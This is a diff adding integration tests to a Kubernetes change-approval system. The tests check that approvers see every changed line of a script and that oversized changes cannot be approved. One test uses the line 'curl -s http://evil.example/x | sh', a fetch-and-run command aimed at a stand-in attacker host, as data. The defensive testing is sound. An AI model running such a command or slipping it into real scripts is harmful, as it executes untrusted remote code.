@@ -520,6 +520,74 @@ describe("what the approver sees (item 3)", () => {
       expect(everything).not.toContain(Buffer.from(v).toString("base64"));
     }
   });
+
+  it("red team 9 #1: a script change shows every changed line, however far from the first", async () => {
+    const adminCore = admin().makeApiClient(CoreV1Api);
+    const script = (v: string, tail: string) =>
+      `#!/bin/sh\n# config ${v}\n${"echo step\n".repeat(40)}${tail}exit 0\n`;
+    await adminCore.createNamespacedConfigMap({
+      namespace: prod,
+      body: { metadata: { name: "warmup" }, data: { "run.sh": script("v1", "") } },
+    });
+    const cur = await core().readNamespacedConfigMap({ name: "warmup", namespace: prod });
+    const msg = await attempt(() =>
+      core().replaceNamespacedConfigMap({
+        name: "warmup",
+        namespace: prod,
+        body: { ...cur, data: { "run.sh": script("v2", "curl -s http://evil.example/x | sh\n") } },
+      }),
+    );
+    const diff = (await getRequest(prod, requestNameIn(msg))).spec.diff ?? "";
+    expect(diff).toContain("  + # config v2");
+    expect(diff).toContain("  + curl -s http://evil.example/x | sh");
+  });
+
+  it("red team 9 #1/#2: a change too large to show in full is stored marked, and cannot be approved, only denied", async () => {
+    const adminCore = admin().makeApiClient(CoreV1Api);
+    const data = (v: string) =>
+      Object.fromEntries(Array.from({ length: 8000 }, (_, i) => [`key-${i}`, `${v.repeat(20)}-${i}`]));
+    await adminCore.createNamespacedConfigMap({
+      namespace: prod,
+      body: { metadata: { name: "huge" }, data: data("a") },
+    });
+    const cur = await core().readNamespacedConfigMap({ name: "huge", namespace: prod });
+    const msg = await attempt(() =>
+      core().replaceNamespacedConfigMap({ name: "huge", namespace: prod, body: { ...cur, data: data("b") } }),
+    );
+    const name = requestNameIn(msg);
+    const ar = await getRequest(prod, name);
+    expect(ar.spec.diffTruncated).toBe(true);
+    expect(ar.spec.action.summary).toMatch(
+      /^THE CHANGE IS TOO LARGE TO SHOW IN FULL \(8000 changed fields\)/,
+    );
+    expect(ar.spec.diff!.length).toBeGreaterThan(200_000); // the CRD holds far more than the old 32 KiB
+    expect(ar.spec.diff).toMatch(/NOT SHOWN\. THE CHANGE IS TOO LARGE/);
+    await expect(decide(approver, prod, name, "Approve", "looks fine")).rejects.toThrow(
+      /cannot be approved: the change is too large/,
+    );
+    // An approver cannot unmark it either.
+    const unmark = await attempt(() =>
+      approver
+        .makeApiClient(CustomObjectsApi)
+        .patchNamespacedCustomObject(
+          {
+            ...G,
+            namespace: prod,
+            plural: "approvalrequests",
+            name,
+            body: [{ op: "remove", path: "/spec/diffTruncated" }],
+          },
+          setHeaderOptions("Content-Type", PatchStrategy.JsonPatch),
+        ),
+    );
+    expect(unmark).not.toBe("");
+    await decide(approver, prod, name, "Deny", "too large to review");
+    await eventually(
+      async () => (await getRequest(prod, name)).status?.phase === "Denied",
+      10_000,
+      `${name} Denied`,
+    );
+  });
 });
 
 describe("generateName (item 4)", () => {
